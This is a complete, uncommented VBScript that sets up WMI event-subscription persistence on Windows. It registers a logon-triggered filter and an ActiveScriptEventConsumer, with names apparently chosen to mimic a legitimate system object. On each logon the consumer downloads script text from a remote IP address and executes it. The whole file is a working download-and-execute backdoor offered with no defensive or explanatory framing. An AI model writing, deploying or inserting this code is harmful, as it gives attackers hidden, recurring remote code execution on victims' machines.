Set svc = GetObject("winmgmts:\\.\root\subscription")
Set filter = svc.Get("__EventFilter").SpawnInstance_()
filter.Name = "BVTFilter"
filter.EventNamespace = "root\cimv2"
filter.QueryLanguage = "WQL"
filter.Query = "SELECT * FROM __InstanceCreationEvent WITHIN 30 WHERE TargetInstance ISA 'Win32_LogonSession'"
Set fPath = filter.Put_()
Set consumer = svc.Get("ActiveScriptEventConsumer").SpawnInstance_()
consumer.Name = "BVTConsumer"
consumer.ScriptingEngine = "VBScript"
consumer.ScriptText = "Set x = CreateObject(""MSXML2.ServerXMLHTTP""): x.Open ""GET"", ""http://198.51.100.133/wmi/c.txt"", False: x.Send: Execute x.ResponseText"
Set cPath = consumer.Put_()
Set binding = svc.Get("__FilterToConsumerBinding").SpawnInstance_()
binding.Filter = fPath.Path
binding.Consumer = cPath.Path
binding.Put_()
